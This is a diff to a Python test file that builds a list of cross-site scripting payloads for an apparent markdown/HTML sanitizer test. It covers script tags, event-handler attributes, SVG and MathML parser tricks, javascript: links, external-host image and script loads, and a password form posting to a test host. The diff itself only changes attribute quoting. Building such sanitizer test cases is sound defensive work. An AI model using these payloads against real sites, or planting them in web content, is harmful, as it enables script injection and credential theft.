@@ -19,26 +19,27 @@ def alert(name):
 
 
 def image(name):
-    return f"<img src=x onerror={alert(name)}>"
+    return f'<img src="x" onerror="{alert(name)}">'
 
 
 def page(name):
     return base64.b64encode(f"<script>top.{alert(name)}</script>".encode()).decode()
 
 
+# In double quotes, as CommonMark asks of an attribute that holds an apostrophe: without them it is text already.
 WORDS = {
     "script": f"<script>{alert('script')}</script>",
     "script-elsewhere": f'<script src="{HOST}/script-elsewhere.js"></script>',
     "onerror": image("onerror"),
-    "onload": f"<svg onload={alert('onload')}>",
+    "onload": f'<svg onload="{alert("onload")}">',
     "svg-script": f"<svg><script>{alert('svg-script')}</script></svg>",
     "svg-style": f"<svg></p><style><a title='</style>{image('svg-style')}'>",
-    "svg-animate": f"<svg><a><animate attributeName=href values=javascript:{alert('svg-animate')} /><text y=20>svg-animate</text></a></svg>",
+    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{alert("svg-animate")}" /><text y=20>svg-animate</text></a></svg>',
     "svg-use": f"<svg><image href='{HOST}/svg-use.png' /></svg>",
     "math-style": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{image('math-style')}'>",
-    "math-link": f"<math><maction actiontype=statusline href=javascript:{alert('math-link')}>math-link</maction></math>",
+    "math-link": f'<math><maction actiontype=statusline href="javascript:{alert("math-link")}">math-link</maction></math>',
     "noscript": f"<noscript><p title='</noscript>{image('noscript')}'>",
-    "comment": f"<!--><img src=x onerror={alert('comment')}>-->",
+    "comment": f'<!--><img src=x onerror="{alert("comment")}">-->',
     "comment-bang": f"<!-- --!>{image('comment-bang')} -->",
     "cdata": f"<svg><![CDATA[><image xlink:href=']]>{image('cdata')}//'></svg>",
     "iframe-srcdoc": f'<iframe srcdoc="<script>top.{alert("iframe-srcdoc")}</script>"></iframe>',
@@ -62,13 +63,13 @@ WORDS = {
     "style-picture": f'<p style="background:url({HOST}/style-picture.png)">style-picture</p>',
     "classes": '<div class="navbar-fixed-top help" id="statusmessage">classes</div>',
     "password": f'<form action="{HOST}/password"><input type="password" name="p"><button>password</button></form>',
-    "autofocus": f"<input autofocus onfocus={alert('autofocus')}>",
+    "autofocus": f'<input autofocus onfocus="{alert("autofocus")}">',
     "button": f'<button formaction="javascript:{alert("button")}" type=submit>button</button>',
-    "toggle": f"<details open ontoggle={alert('toggle')}>toggle</details>",
-    "video": f"<video src=x onerror={alert('video')}></video><audio src=x onerror={alert('video')}></audio>",
+    "toggle": f'<details open ontoggle="{alert("toggle")}">toggle</details>',
+    "video": f'<video src=x onerror="{alert("video")}"></video><audio src=x onerror="{alert("video")}"></audio>',
     "video-poster": f'<video poster="{HOST}/video-poster.png"></video>',
-    "marquee": f"<marquee onstart={alert('marquee')}>marquee</marquee>",
-    "animation": f"<style>@keyframes k {{}}</style><b style='animation:k 1s' onanimationstart={alert('animation')}>animation</b>",
+    "marquee": f'<marquee onstart="{alert("marquee")}">marquee</marquee>',
+    "animation": f'<style>@keyframes k {{}}</style><b style="animation:k 1s" onanimationstart="{alert("animation")}">animation</b>',
     "picture": f"![picture]({HOST}/picture.png)",
     "picture-set": f'<picture><source srcset="{HOST}/picture-set.png"><img src=x></picture>',
     "picture-svg": f"![picture-svg](data:image/svg+xml;base64,{page('picture-svg')})",
@@ -78,7 +79,7 @@ WORDS = {
     "table": f"|{image('table')}|b|\n|-|-|\n|1|2|",
     "list": f"- > 1. {image('list')}",
     "heading": f"# {image('heading')}",
-    "fence": f'```"><img src=x onerror={alert("fence")}>\nfence\n```',
+    "fence": f'```"><img src=x onerror="{alert("fence")}">\nfence\n```',
     "fence-language": f"```html\n{image('fence-language')}\n```",
     "mermaid": f"```mermaid\n{image('mermaid')}\n```",
     "formula-link": r"$\href{javascript:alert(1)}{formula-link}$",
